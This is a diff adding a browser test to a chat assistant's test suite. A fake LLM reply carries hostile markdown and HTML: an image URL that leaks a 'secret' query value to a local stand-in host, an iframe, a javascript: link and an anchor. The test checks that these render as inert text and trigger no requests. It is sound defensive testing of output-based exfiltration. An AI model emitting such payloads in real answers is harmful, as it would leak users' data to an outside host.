@@ -140,3 +140,73 @@ def test_twenty_concurrent_requests_through_the_api(server):
     latencies = sorted(ms for *_, ms in results)
     print(f"\n20 concurrent /ask: median {statistics.median(latencies):.0f} ms, "
           f"p95 {latencies[int(0.95 * len(latencies)) - 1]:.0f} ms")
+
+
+class _Sink:
+    """A local HTTP server standing for an outside host: it records every request the page makes to it."""
+
+    def __init__(self):
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        hits = self.hits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args):
+                pass
+
+            def do_GET(self):
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_model_output_is_inert_while_streaming_and_after(tmp_path_factory):
+    """An LLM (or an article it quotes) answering with images, raw HTML and javascript: links loads nothing."""
+    from playwright.sync_api import sync_playwright
+
+    from .fake_llm import FakeLLM
+
+    sink = _Sink()
+    reply = (f"黄仁勋[1] ![t]({sink.url}/md.png?leak=secret) <img src=\"{sink.url}/raw.png\"> "
+             f"<iframe src=\"{sink.url}/frame\"></iframe> [点我](javascript:window.__pwned=1) "
+             f"<a href=\"{sink.url}/a\">链接</a> 结束。")
+    root = tmp_path_factory.mktemp("inert")
+    try:
+        with FakeLLM() as llm:
+            llm.reply, llm.delay = reply, 0.0
+            env = {"ASSISTANT_LLM_BASE_URL": llm.base_url, "ASSISTANT_LLM_MODEL": "fake",
+                   "ASSISTANT_LLM_API_KEY": "k", "ASSISTANT_ANSWERER": "llm"}
+            with running_server(root, env=env) as url, sync_playwright() as p:
+                import httpx
+
+                assert "img-src 'self'" in httpx.get(url + "/").headers["content-security-policy"]
+                browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+                page = browser.new_page()
+                page.goto(url + "/")
+                page.locator("#question textarea").fill("英伟达是谁创立的?")
+                page.locator("#question textarea").press("Enter")
+                elements = "#chat img[src*='127.0.0.1'], #chat iframe, #chat a[href^='javascript'], #chat a[href*='127.0.0.1']"
+                seen = 0
+                deadline = time.time() + 60
+                while time.time() < deadline and "结束" not in page.locator("#chat").inner_text():
+                    seen += page.locator(elements).count()  # sampled during streaming
+                    time.sleep(0.05)
+                time.sleep(1.0)
+                text = page.locator("#chat").inner_text()
+                assert "结束" in text and "![t](" in text and "<img" in text  # shown as the text it is
+                assert seen == 0 and page.locator(elements).count() == 0
+                assert page.evaluate("window.__pwned") is None
+                browser.close()
+    finally:
+        sink.close()
+    assert sink.hits == []
